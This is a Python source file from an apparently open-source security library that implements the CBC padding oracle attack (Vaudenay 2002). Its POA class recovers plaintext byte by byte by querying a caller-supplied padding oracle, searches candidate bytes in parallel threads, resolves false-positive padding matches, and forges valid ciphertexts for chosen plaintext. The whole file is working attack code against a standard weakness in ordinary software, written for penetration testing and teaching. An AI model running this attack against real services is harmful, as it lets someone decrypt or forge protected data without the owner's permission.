'''
Created on Jul 4, 2010

Copyright (C) 2010 ELOI SANFÈLIX
Copyright (C) 2012-2015 Timothy D. Morgan
Copyright (C) 2026 The Colossus Authors
@author: Eloi Sanfelix < eloi AT limited-entropy.com >
@author: Timothy D. Morgan < tmorgan {a} vsecurity . com >

 This program is free software: you can redistribute it and/or modify
 it under the terms of the GNU Lesser General Public License, version 3,
 as published by the Free Software Foundation.

 This program is distributed in the hope that it will be useful,
 but WITHOUT ANY WARRANTY; without even the implied warranty of
 MERCHANTABILITY or FITNESS FOR A PARTICULAR PURPOSE.  See the
 GNU General Public License for more details.

 You should have received a copy of the GNU General Public License
 along with this program.  If not, see <http://www.gnu.org/licenses/>.
'''

import threading
from Crypto.Random import get_random_bytes
from .. import buffertools
from ..Exceptions import *

# How to choose between several helper bytes that all produce valid
# padding.  Only the last byte of a block can be ambiguous: a plaintext
# ending in ...\x02\x02 is valid padding just like one ending in \x01.
MATCH_FIRST = 'first'
MATCH_LAST = 'last'
MATCH_CONFIRM = 'confirm'


class POA:
    """This class implements padding oracle attacks given a ciphertext and
    function that acts as a padding oracle.

    The padding scheme is assumed to be PKCS#5/#7, also defined in RFC2040.
    This attack was first described in:
     "Security Flaws Induced by CBC Padding. Applications to SSL, IPSEC,
      WTLS" by Serge Vaudenay (2002)

    POA objects are not caller thread-safe.  If multiple threads need to work
    simultaneously on the same ciphertext and oracle, create a
    separate instance. POA objects can execute tasks internally using
    multiple threads, however.

    """

    ## private
    _oracle = None
    _ciphertext = None
    _iv = None
    _lock = None

    ## protected (reading ok, changing not ok)
    block_size = None

    ## public (r/w ok)
    decrypted = None
    threads = None
    ambiguity = None
    log_fh = None

    def __init__(self, oracle, block_size, ciphertext, iv=None,
                 threads=1, decrypted=b'', ambiguity=MATCH_CONFIRM, log_file=None):
        """Creates a new padding oracle attack (POA) object.

        Arguments:
        oracle -- A function which returns True if the given ciphertext
         results in a correct padding upon decryption and False
         otherwise.  This function should implement the prototype:
           def myOracle(iv, ciphertext): ...
         Only two blocks are ever submitted at a time: a tweaked
         "helper" block in the IV position followed by the block under
         attack.

        block_size -- The block size of the ciphertext being attacked.
         Is almost always 8 or 16.

        ciphertext -- The ciphertext to be decrypted

        iv -- The initialization vector associated with the ciphertext.
         If none provided, it is assumed to be a block of 0's

        threads -- The maximum number of parallel threads to use while
         searching the 256 values of one byte.  Bytes themselves are
         always solved one after another.  With more than one thread the
         oracle function is called in parallel and should do its own
         locking where needed.

        decrypted -- If a portion of the plaintext is already known (due
         to a prior, partially successful decryption attempt), then this
         may be used to restart the decryption process where it was
         previously left off.  This argument is assumed to contain the
         final N bytes (for an N-byte argument) of the plaintext; that
         is, the tail of the plaintext including the pad.

        ambiguity -- MATCH_CONFIRM (default), MATCH_FIRST or MATCH_LAST.
         Policy for the final byte of a block when more than one helper
         value yields valid padding.

        log_file -- A Python file object where log messages will be
         written.

        """

        if(len(ciphertext)%block_size != 0 or len(ciphertext) < block_size):
            raise InvalidBlockError(block_size,len(ciphertext),'ciphertext')
        if(iv != None and len(iv) != block_size):
            raise InvalidBlockError(block_size,len(iv),'IV')
        if len(decrypted) > len(ciphertext):
            raise ValueError("More plaintext already decrypted than there is ciphertext")
        if ambiguity not in (MATCH_FIRST, MATCH_LAST, MATCH_CONFIRM):
            raise ValueError("Unknown ambiguity policy: %r" % ambiguity)

        self.block_size = block_size
        self.decrypted = bytes(decrypted)
        self.threads = max(1, threads)
        self.ambiguity = ambiguity
        self.log_fh = log_file

        self._oracle = oracle
        self._ciphertext = bytes(ciphertext)
        self._lock = threading.Lock()
        if iv == None:
            self._iv = b'\x00'*self.block_size
        else:
            self._iv = bytes(iv)


    def log_message(self, s):
        if self.log_fh != None:
            self.log_fh.write('COLOSSUS: %s\n' % s)


    def _test_value_set(self, prefix, suffix, block, value_set, results):
        for b in value_set:
            if self._oracle(prefix+bytes([b])+suffix, block):
                with self._lock:
                    results.append(b)


    def _find_candidates(self, prefix, suffix, block):
        """Returns, in ascending order, every value of the byte between
        prefix and suffix for which the oracle reports valid padding.
        """
        results = []
        if self.threads == 1:
            self._test_value_set(prefix, suffix, block, range(0,256), results)
        else:
            # Each thread spawned searches a subset of the byte's
            # 256 possible values
            threads = []
            for i in range(0,self.threads):
                t = threading.Thread(target=self._test_value_set,
                                     args=(prefix, suffix, block, range(i,256,self.threads), results))
                t.start()
                threads.append(t)

            for t in threads:
                t.join()

        return sorted(results)


    def _confirm_last_byte(self, prior, block, value):
        """A helper value that really makes the final byte decrypt to 0x01
        stays valid whatever the byte in front of it decrypts to.
        Spurious matches (\x02\x02, \x03\x03\x03, ...) do not.
        """
        helper = bytearray(prior)
        helper[-1] = value
        helper[-2] ^= 0xFF
        return self._oracle(bytes(helper), block)


    def _choose(self, policy, prior, block, numKnownBytes, original, candidates, original_valid):
        if policy == MATCH_CONFIRM and numKnownBytes == 0:
            pool = list(candidates)
            if original_valid:
                pool.append(original)
            for value in pool:
                if self._confirm_last_byte(prior, block, value):
                    return value
            return None

        # The unmodified byte only counts if the oracle accepted it
        if len(candidates) == 0:
            if original_valid:
                return original
            return None
        if policy == MATCH_LAST:
            return candidates[-1]
        return candidates[0]


    def decrypt_next_byte(self, prior, block, known_bytes, cache=True, ambiguity=None):
        """Decrypts one byte of ciphertext by modifying the prior
        ciphertext block at the same relative offset.

        Arguments:
        prior -- Ciphertext block appearing prior to the current target
        block -- Currently targeted ciphertext block
        known_bytes -- Bytes in this block already decrypted

        """

        if(len(block)!=self.block_size):
            raise InvalidBlockError(self.block_size,len(block))
        numKnownBytes = len(known_bytes)

        if(numKnownBytes >= self.block_size):
            return known_bytes

        pad = numKnownBytes+1
        position = self.block_size-pad
        prior_prefix = prior[0:position]
        base = prior[position]
        # Adjust known bytes to appear as a PKCS 7 pad
        suffix = bytes([prior[position+1+i]^known_bytes[i]^pad for i in range(0,numKnownBytes)])

        results = self._find_candidates(prior_prefix, suffix, block)
        # The unmodified byte is tried last, and only if the oracle
        # accepted it
        candidates = [b for b in results if b != base]
        base_valid = base in results
        if len(candidates) > 1:
            self.log_message("Ambiguous byte at position %d, candidates: %r" % (position, candidates))

        if ambiguity == None:
            ambiguity = self.ambiguity
        value = self._choose(ambiguity, prior, block, numKnownBytes, base, candidates, base_valid)

        if value == None:
            self.log_message("Value of a byte could not be determined.  Current plaintext suffix: "+ repr(self.decrypted))
            raise SearchExhaustedError("No helper value produced valid padding at position %d" % position)

        decrypted = bytes([value^base^pad])
        if cache:
            self.decrypted = decrypted + self.decrypted
        #  Return previous bytes together with current byte
        return decrypted+known_bytes


    def decrypt_block(self, prior, block, last_bytes=b'', cache=True):
        """Decrypts the block of ciphertext provided as a parameter.

        With MATCH_FIRST, a block whose second-to-last byte comes out as
        a plausible pad value is assumed to have hit a false positive on
        its last byte, and is decrypted again preferring the last match.
        """
        start = last_bytes
        while(len(last_bytes)!=self.block_size):
            last_bytes = self.decrypt_next_byte(prior, block, last_bytes, cache=False)

        if (self.ambiguity == MATCH_FIRST and len(start) == 0
            and last_bytes[-2] <= self.block_size):
            self.log_message("Possible false positive on final byte, retrying with last match")
            last_bytes = self.decrypt_next_byte(prior, block, b'', cache=False, ambiguity=MATCH_LAST)
            while(len(last_bytes)!=self.block_size):
                last_bytes = self.decrypt_next_byte(prior, block, last_bytes, cache=False)

        if cache:
            self.decrypted = last_bytes[:self.block_size-len(start)] + self.decrypted

        self.log_message("Decrypted block: %s" % repr(last_bytes))
        return last_bytes


    def decrypt(self, strip=True):
        """Decrypts the previously supplied ciphertext. If the IV was
        not provided, it assumes a IV of zero bytes.

        Returns the plaintext with its padding removed, or with the
        padding intact if strip is False.
        """

        # number of bytes in any partially decrypted blocks
        num_partial = len(self.decrypted) % self.block_size

        # number of blocks fully decrypted
        finished_blocks = len(self.decrypted) // self.block_size

        # contents of the partial block
        partial = self.decrypted[0:num_partial]

        # contents of fully decrypted blocks
        decrypted = self.decrypted[num_partial:]

        blocks = buffertools.splitBuffer(self._ciphertext, self.block_size)

        # Start with the partially decrypted block at the end, and work
        # our way to the front.  The first block uses the IV as its prior.
        for i in range(len(blocks)-1-finished_blocks, -1, -1):
            prior = blocks[i-1] if i > 0 else self._iv
            decrypted = self.decrypt_block(prior, blocks[i], partial) + decrypted
            partial = b''

        if not strip:
            return decrypted

        # Remove the padding and return
        return buffertools.stripPKCS7Pad(decrypted, self.block_size, self.log_fh)


    def encrypt_block(self, plaintext, ciphertext):
        """Encrypts a block of plaintext.  This is accomplished by
        decrypting the supplied ciphertext and then computing the prior
        block needed to create the desired plaintext at the ciphertext's
        location.

        Returns the calculated prior block and the provided ciphertext
        block as a tuple.

        """
        if len(plaintext) != self.block_size or len(plaintext) != len(ciphertext):
            raise InvalidBlockError(self.block_size,len(plaintext))

        ptext = self.decrypt_block(b'\x00'*self.block_size, ciphertext, cache=False)
        prior = bytes(buffertools.xorBuffers(ptext, plaintext))
        self.log_message("Encrypted block: %s to %s with prior %s" % (repr(plaintext),
                                                                      repr(bytes(ciphertext)),
                                                                      repr(prior)))
        return prior,ciphertext


    def encrypt(self, plaintext):
        """Encrypts a plaintext value through "CBC-R" style prior-block
        propagation, starting from a random final block.

        Returns a tuple of the IV and ciphertext.

        """

        blocks = buffertools.splitBuffer(buffertools.pkcs7PadBuffer(plaintext, self.block_size),
                                         self.block_size)

        prior = get_random_bytes(self.block_size)
        ciphertext = b''

        self.log_message("Encrypting %d blocks..." % len(blocks))
        # Generate each prior block from the one after it
        for i in range(len(blocks)-1, -1, -1):
            prior,cblock = self.encrypt_block(blocks[i],prior)
            ciphertext = cblock+ciphertext

        # prior as IV
        return prior,ciphertext
